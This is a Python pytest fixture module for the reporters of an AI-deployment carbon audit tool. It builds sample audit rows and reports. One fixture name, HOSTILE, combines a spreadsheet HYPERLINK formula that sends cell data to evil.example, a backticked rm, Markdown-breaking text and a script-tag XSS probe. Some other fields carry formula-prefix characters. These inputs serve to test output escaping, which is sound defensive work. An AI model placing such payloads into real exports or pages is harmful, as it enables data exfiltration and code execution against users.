"""Audit reports built by hand: the audit reporters only render a finished AuditReport."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

import pytest

from greengate.aggregate.savings import top_savings
from greengate.aggregate.totals import summarise
from greengate.records.audit import (
    Alternative,
    AuditError,
    AuditReport,
    AuditRow,
    EnergyInputs,
    Estimate,
    Repository,
    sorted_rows,
)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")|`rm`\n## <script>alert(1)</script>'
"""A deployment name that is a spreadsheet formula, breaks a Markdown table and holds HTML."""


def row(name: str, *, tco2e: float | None = 1.5, **changes: object) -> AuditRow:
    estimated = tco2e is not None
    base = AuditRow(
        repository="platform",
        file=f"deploy/{name[:8].strip() or 'x'}.yaml",
        line=3,
        format="native",
        kind="AIDeployment",
        name=name,
        owner="team-a",
        owner_source="label team",
        workload="inference",
        task="chat",
        provider="aws",
        region="eu-west-1",
        grid_intensity=300.0 if estimated else None,
        accelerator="nvidia-l4",
        count=2.0,
        replicas_min=1,
        replicas_max=3,
        failing=("GG101", "GG201"),
        estimate=Estimate(
            kwh_year_low=(tco2e or 0) / 3 / 300 * 1e6 if estimated else None,
            kwh_year_high=(tco2e or 0) / 300 * 1e6 if estimated else None,
            tco2e_year_low=(tco2e or 0) / 3 if estimated else None,
            tco2e_year_high=tco2e,
        ),
        inputs=EnergyInputs(
            accelerator_watts=72.0, hours_per_year=8760.0, pue=1.1, how={"pue": "PUE 1.1 (catalog)"}
        )
        if estimated
        else EnergyInputs(),
    )
    return replace(base, **changes)  # type: ignore[arg-type]


def report_of(rows: list[AuditRow], errors: tuple[AuditError, ...] = ()) -> AuditReport:
    ordered = sorted_rows(rows)
    overall, totals = summarise(ordered)
    return AuditReport(
        repositories=(Repository("platform", "."),),
        rows=ordered,
        errors=errors,
        overall=overall,
        totals=totals,
        top_savings=top_savings(ordered),
    )


@pytest.fixture
def hostile_report() -> AuditReport:
    greener = Alternative(
        kind="region",
        value="eu-north-1",
        summary="move to aws eu-north-1 (36 gCO2e/kWh)",
        tco2e_year=0.2,
        saving_tco2e_year=1.3,
        saving_percent=86.7,
        detail="1.5 t x 36 / 300",
    )
    rows = [
        row(HOSTILE, owner="+team|b", model="@model"),
        row("chat", alternatives=(greener,)),
        row("unknown-one", tco2e=None, accelerator="", count=None, region=""),
    ]
    errors = (AuditError("platform", "deploy/bad.yaml", 7, "GG002", "- bad | `value`\n# x"),)
    return report_of(rows, errors)


@pytest.fixture
def make_row() -> Callable[..., AuditRow]:
    return row


@pytest.fixture
def make_audit() -> Callable[..., AuditReport]:
    return report_of
